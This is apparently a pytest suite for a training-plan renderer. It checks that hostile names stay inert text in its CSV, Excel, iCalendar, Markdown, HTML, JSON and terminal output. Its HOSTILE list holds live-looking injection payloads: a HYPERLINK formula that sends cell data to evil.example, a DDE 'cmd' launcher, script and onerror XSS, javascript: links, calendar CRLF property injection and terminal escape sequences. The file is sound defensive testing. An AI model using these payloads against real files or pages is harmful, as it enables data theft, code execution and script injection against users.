"""Names may hold anything (a custom or imported catalog, a hand-edited plan file, a batch row):
every format stays what it claims to be, read back with a real reader. A spreadsheet runs no
formula, Markdown gains no heading, tag or link, a calendar gains no property or line, a page gains
no element or attribute, and no control character reaches a terminal."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import icalendar
import openpyxl
import pytest

from planner.render import FORMATS, render
from planner.render.table import COLUMNS
from planner.textsafe import markdown, one_line, terminal
from tests.conftest import run_cli

FIXTURE = Path(__file__).parent / "data" / "plan-4w.json"
NOW = dt.datetime(2026, 11, 21, 9, 30, tzinfo=dt.UTC)
BLOCK = "4-week posterior-chain block"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Hip thrust")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\uff1d1+1",
    "Line one\n# Heading\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>",
    "Bare\rCR",
    "CRLF\r\nSUMMARY:injected\r\nBEGIN:VEVENT",
    "\x1b[31mRed\x1b[0m \x1b]0;window title\x07 \x9b2J",
    "A | B | C",
    "[click](javascript:alert(1)) ![img](x)",
    "`code` *bold* _em_ ~~strike~~ __strong__",
    '" onmouseover="alert(1)" x="',
    "'single' & <b>bold</b> &amp; &lt;",
    "Back\\slash\\",
    "semi;colon,comma:colon",
    "\u2028line\u2029para\x0bvt\x0cff",
    "\x00nul\x7fdel",
    "Ünïcødé 🏋️ name long enough to be folded in a calendar line: on and on and on and on",
]
IDS = [f"name{i}" for i in range(len(HOSTILE))]
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")
FORMULA_START = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def hostile_plan(name: str) -> dict[str, Any]:
    """The 4-week fixture with ``name`` as the client's name, level and goal, every exercise's
    name and id, an equipment item, a muscle every main exercise trains and every main exercise's
    tempo and load rule."""
    plan = json.loads(FIXTURE.read_text("utf-8"))
    plan["constraints"]["client"] = {"name": name, "level": name, "goal": name}
    plan["equipment"] = [name, *plan["equipment"]]
    for week in plan["weeks"]:
        for session in week["sessions"]:
            for key in ("warmup", "exercises", "cooldown"):
                for it in session[key]:
                    it["name"] = it["id"] = name
                    if key == "exercises":
                        it["muscles"][name] = 0.5
                        it["tempo"] = it["load_rule"] = name
    return plan


def items(plan: dict[str, Any]) -> list[dict[str, Any]]:
    return [
        it
        for w in plan["weeks"]
        for s in w["sessions"]
        for it in s["warmup"] + s["exercises"] + s["cooldown"]
    ]


def ramp_sets(plan: dict[str, Any]) -> int:
    return sum(
        len(it["ramp_up"]) for w in plan["weeks"] for s in w["sessions"] for it in s["exercises"]
    )


def as_cell(name: str) -> str:
    """What a spreadsheet cell shows for ``name``: one line, a leading apostrophe before what
    would start a formula."""
    text = one_line(name)
    return "'" + text if text.startswith(FORMULA_START) else text


# --- CSV ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_csv_cells_are_inert_text_and_numbers_stay_numbers(name: str) -> None:
    plan = hostile_plan(name)
    text = str(render(plan, "csv"))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(COLUMNS)
    body = rows[1:]
    assert len(body) == sum(it["sets"] for it in items(plan)) + ramp_sets(plan) > 0
    for row in body:
        assert len(row) == len(COLUMNS)
        for cell in row:
            assert not cell.startswith(FORMULA_START) or cell.lstrip("-").isdigit(), cell
            assert "\n" not in cell and "\r" not in cell and not CONTROL.search(cell)
        record = dict(zip(COLUMNS, row, strict=True))
        assert record["exercise"] == record["exercise_id"] == as_cell(name)
        if record["block"] in ("main", "rampup"):
            assert record["tempo"] == as_cell(name)
        for column in ("week", "set", "rest_seconds"):
            assert record[column].isdigit()
        assert record["reps"].isdigit() or record["seconds"].isdigit()


# --- Excel --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_xlsx_holds_no_formula_and_names_as_text(name: str) -> None:
    plan = hostile_plan(name)
    data = render(plan, "xlsx", now=NOW)
    assert isinstance(data, bytes)
    book = openpyxl.load_workbook(io.BytesIO(data), data_only=False)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), cell.value
                    assert not CONTROL.search(cell.value) and "\n" not in cell.value
    assert book.properties.title == f"{one_line(name)}: {BLOCK}"
    assert book["Summary"]["A1"].value == as_cell(f"{one_line(name)}: {BLOCK}")
    rows = list(book["Week 1"].iter_rows(min_row=2, values_only=True))
    week = rows[: rows.index((None,) * len(rows[0]))]
    assert week and {(r[3], r[4]) for r in week} == {(as_cell(name), as_cell(name))}
    assert all(isinstance(r[5], int) and isinstance(r[9], int) for r in week)
    assert {r[13] for r in week if r[2] in ("main", "rampup")} == {as_cell(name)}
    rule = [r[0] for r in rows[len(week) :] if r[0] and r[0].endswith(f": {one_line(name)}")]
    assert rule == [as_cell(f"{one_line(name)}: {one_line(name)}")]
    muscles = [r[0] for r in book["Summary"].iter_rows(values_only=True) if r[0]]
    assert any(one_line(name).lower() in m.lower() for m in muscles)


# --- iCalendar ----------------------------------------------------------------------------------

EVENT_PROPERTIES = {
    "UID",
    "DTSTAMP",
    "DTSTART",
    "DTEND",
    "SUMMARY",
    "DESCRIPTION",
    "CATEGORIES",
    "TRANSP",
}


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_ics_keeps_names_inside_their_values(name: str) -> None:
    plan = hostile_plan(name)
    text = str(render(plan, "ics", now=NOW))
    # Strict lines: CRLF ends every line and nothing else; a long line folds within 75 octets.
    assert text.endswith("\r\n")
    lines = text[:-2].split("\r\n")
    for line in lines:
        assert "\r" not in line and "\n" not in line, repr(line)
        assert len(line.encode("utf-8")) <= 75, line
        assert not CONTROL.search(line), repr(line)
    unfolded = re.sub(r"\r\n[ \t]", "", text[:-2]).split("\r\n")
    names = [line.split(":")[0].split(";")[0] for line in unfolded]
    assert (
        names.count("BEGIN")
        == names.count("END")
        == 1 + len([s for w in plan["weeks"] for s in w["sessions"]])
    )
    assert set(names) <= EVENT_PROPERTIES | {
        "BEGIN",
        "END",
        "VERSION",
        "PRODID",
        "CALSCALE",
        "X-WR-CALNAME",
    }
    cal = icalendar.Calendar.from_ical(text)
    # icalendar leaves an X- property's value as written: unescape it as RFC 5545 TEXT.
    calname = re.sub(
        r"\\([\\;,nN])",
        lambda m: m[1].replace("N", "n").replace("n", "\n"),
        str(cal["X-WR-CALNAME"]),
    )
    assert calname == f"{one_line(name)}: {BLOCK}"
    events = list(cal.walk("VEVENT"))
    sessions = [s for w in plan["weeks"] for s in w["sessions"]]
    assert len(events) == len(sessions)
    for event, session in zip(events, sessions, strict=True):
        assert set(event) == EVENT_PROPERTIES
        assert str(event["SUMMARY"]).startswith(f"{one_line(name)}: Posterior chain: week ")
        description = str(event["DESCRIPTION"])
        around = session["warmup"] + session["exercises"] + session["cooldown"]
        assert description.count(f"\n- {one_line(name)}: ") == len(around)
        blocks = [session[key] for key in ("warmup", "exercises", "cooldown") if session[key]]
        ramp = any(it["ramp_up"] for it in session["exercises"])
        effort = ["RIR "] if any(it["rir"] is not None for it in session["exercises"]) else []
        notes = [*effort, f"Tempo {one_line(name)}: ", "How to add load:", f"{one_line(name)}: "]
        lines = description.split("\n")
        body = 1 + sum(2 + len(block) for block in blocks) + 2 * ramp
        assert len(lines) == body + 1 + len(notes)
        assert all(
            line.startswith(note) for line, note in zip(lines[-len(notes) :], notes, strict=True)
        )


# --- Markdown -----------------------------------------------------------------------------------

HEADING = re.compile(
    r"## (How to read it|Every session|Mesocycle \d+: weeks? [\d-]+(, deload in week \d+)?"
    r"|Week \d+ · mesocycle \d+( · deload \(lighter week\))?|Coverage)"
    r"|### \w{3} \d+ \w{3}, \d+ min"
)
PROSE = (
    "Equipment: ",
    "Objective ",
    "Effective sets a week ",
    "- ",
    "Ramp-up before ",
    "How to add load:",
)
DRILLS = ("**Warm-up:** ", "**Cool-down:** ")
# What Markdown or inline HTML reads as syntax; each must come escaped from a name.
SPECIAL = set("\\`*[]<>|#&~")


def cells(row: str) -> list[str]:
    """A table row's cells, the way GitHub splits them: a backslash escapes the next character."""
    assert row.startswith("|") and row.endswith("|"), row
    out, cell, i = [], "", 1
    while i < len(row) - 1:
        c = row[i]
        if c == "\\":
            cell += row[i : i + 2]
            i += 2
            continue
        if c == "|":
            out.append(cell.strip())
            cell = ""
        else:
            cell += c
        i += 1
    return [*out, cell.strip()]


def unescaped(text: str) -> list[str]:
    """Syntax characters in ``text`` that no backslash escapes (an underscore counts unless
    it sits between two letters or digits, where it never makes emphasis)."""
    found, i = [], 0
    while i < len(text):
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c in SPECIAL:
            found.append(c)
        elif c == "_":
            before, after = text[i - 1 : i], text[i + 1 : i + 2]
            if not (before.isalnum() and after.isalnum()):
                found.append(c)
        i += 1
    return found


def plain(text: str) -> str:
    """``text`` as Markdown shows it: backslash escapes of ASCII punctuation resolved."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_markdown_names_are_plain_text_on_one_line(name: str) -> None:
    plan = hostile_plan(name)
    md = str(render(plan, "md"))
    assert not CONTROL.search(md.replace("\n", ""))
    lines = md.split("\n")
    title = lines[0].removeprefix("# ")
    assert not unescaped(title) and plain(title) == f"{one_line(name)}: {BLOCK}"
    header: list[str] = []
    rows = drills = 0
    for line in lines[1:]:
        if not line:
            header = []
        elif line.startswith("#"):
            assert HEADING.fullmatch(line), line
        elif line.startswith("|"):
            row = cells(line)
            if not header:
                header = row
                continue
            assert len(row) == len(header), line
            if header[0] == "Exercise" and row[0] != "---":
                assert not unescaped(row[0]) and plain(row[0]) == one_line(name), row[0]
                assert not unescaped(row[4]) and plain(row[4]) == one_line(name), row[4]
                rows += 1
            if header[0] == "Muscle" and row[0] != "---":
                assert not unescaped(row[0]), row[0]
        elif line.startswith(DRILLS):
            drills += 1
            rest = line.split(":** ", 1)[1]
            assert not unescaped(rest) and plain(rest).startswith(one_line(name)), line
        else:
            assert line.startswith(PROSE), line
            assert not unescaped(line), line
    main = sum(len(s["exercises"]) for w in plan["weeks"] for s in w["sessions"])
    assert rows == main and drills >= 2
    assert f"- {markdown(one_line(name))}: {markdown(one_line(name))}" in lines


def test_markdown_to_a_terminal_carries_no_escape_sequence(tmp_path: Path) -> None:
    plan_file = tmp_path / "plan.json"
    plan_file.write_text(json.dumps(hostile_plan("\x1b[2J\x1b]0;owned\x07Ann\x9b31m")), "utf-8")
    result = run_cli("render", str(plan_file))
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("# Ann: ")
    assert not CONTROL.search(result.stdout.replace("\n", ""))


# --- HTML ---------------------------------------------------------------------------------------


class Elements(HTMLParser):
    """Every start tag with its attributes, and the page's text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []
        self.text: list[str] = []
        self.outside_charts: list[str] = []
        self.in_chart = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(k, v or "") for k, v in attrs]
        self.in_chart = self.in_chart or tag == "svg"

    def handle_endtag(self, tag: str) -> None:
        self.in_chart = self.in_chart and tag != "svg"

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if not self.in_chart:
            self.outside_charts.append(data)


def elements(html: str) -> Elements:
    page = Elements()
    page.feed(html)
    page.close()
    return page


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_html_names_add_no_element_or_attribute(name: str) -> None:
    plain_page = elements(str(render(hostile_plan("Plain name"), "html")))
    page = elements(str(render(hostile_plan(name), "html")))
    assert page.tags == plain_page.tags
    assert {k for k, _ in page.attrs} == {k for k, _ in plain_page.attrs}
    for key, value in page.attrs:
        assert "javascript" not in value and "alert" not in value, (key, value)
    # Charts show the muscle capitalized; every other place shows the name as it is.
    text, plain_text = "".join(page.outside_charts), "".join(plain_page.outside_charts)
    assert text.count(one_line(name)) == plain_text.count("Plain name") > 0
    assert not CONTROL.search("".join(page.text).replace("\n", ""))


# --- JSON ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_json_keeps_every_name_exactly_and_escapes_control_characters(name: str) -> None:
    plan = hostile_plan(name)
    text = str(render(plan, "json"))
    assert json.loads(text) == plan
    assert not CONTROL.search(text.replace("\n", ""))
    assert text == json.dumps(plan, indent=2) + "\n"  # as the standard library writes it


def test_json_writes_lone_surrogates_and_tiny_floats_as_numbers_json_reads_back() -> None:
    plan = hostile_plan("Ann\ud800")
    assert render(plan, "json") == json.dumps(plan, indent=2) + "\n"
    plan = hostile_plan("Plain name")
    plan["solver"]["gap"] = 2.5e-05  # a gap rounded to 6 places
    text = str(render(plan, "json"))
    assert json.loads(text) == plan and '"gap": 0.000025' in text


# --- Every format through the command line ------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", HOSTILE, ids=IDS)
def test_planner_render_writes_every_format_for_any_name(
    tmp_path: Path, name: str, fmt: str
) -> None:
    """A hand-edited plan file with such names is still a plan: every format is written whole,
    the same as the library renders it (apart from the time of writing in calendar and workbook)."""
    plan = hostile_plan(name)
    plan_file = tmp_path / "plan.json"
    plan_file.write_text(json.dumps(plan), "utf-8")
    out = tmp_path / f"plan.{fmt}"
    result = run_cli("render", str(plan_file), "-o", str(out))
    assert result.exit_code == 0, result.output
    expected = render(plan, fmt, now=NOW)
    got = out.read_bytes()
    if fmt == "xlsx":
        assert isinstance(expected, bytes)
        assert workbook_cells(got) == workbook_cells(expected)
    elif fmt == "ics":
        stamp = re.compile(rb"DTSTAMP:\d{8}T\d{6}Z")
        assert stamp.sub(b"", got) == stamp.sub(b"", str(expected).encode("utf-8"))
    else:
        assert got.decode("utf-8") == expected


def workbook_cells(data: bytes) -> list[list[tuple[Any, ...]]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets]


# --- The text helpers ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\x1b[1;31mRed\x1b[0m", "Red"),
        ("\x1b]0;title\x07Ann", "Ann"),
        ("\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x9b2JAnn", "Ann"),
        ("a\r\nb\tc\u2028d", "a b c d"),
        ("\x00a\x7f\x85b", "ab"),
    ],
)
def test_one_line_drops_whole_escape_sequences_and_breaks(text: str, expected: str) -> None:
    assert one_line(text) == expected
    assert terminal(text + "\nnext") == terminal(text) + "\nnext"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Hip thrust (dumbbell)", "Hip thrust (dumbbell)"),
        ("stability_ball", "stability_ball"),
        ("_em_ *b* `c`", "\\_em\\_ \\*b\\* \\`c\\`"),
        ("# A | B", "\\# A \\| B"),
        ("<b>&amp;</b>", "\\<b\\>\\&amp;\\</b\\>"),
        ("[x](javascript:y)", "\\[x\\](javascript:y)"),
        ("back\\slash", "back\\\\slash"),
        ("line\n## two", "line \\#\\# two"),
    ],
)
def test_markdown_escapes_syntax_and_keeps_plain_names(text: str, expected: str) -> None:
    assert markdown(text) == expected
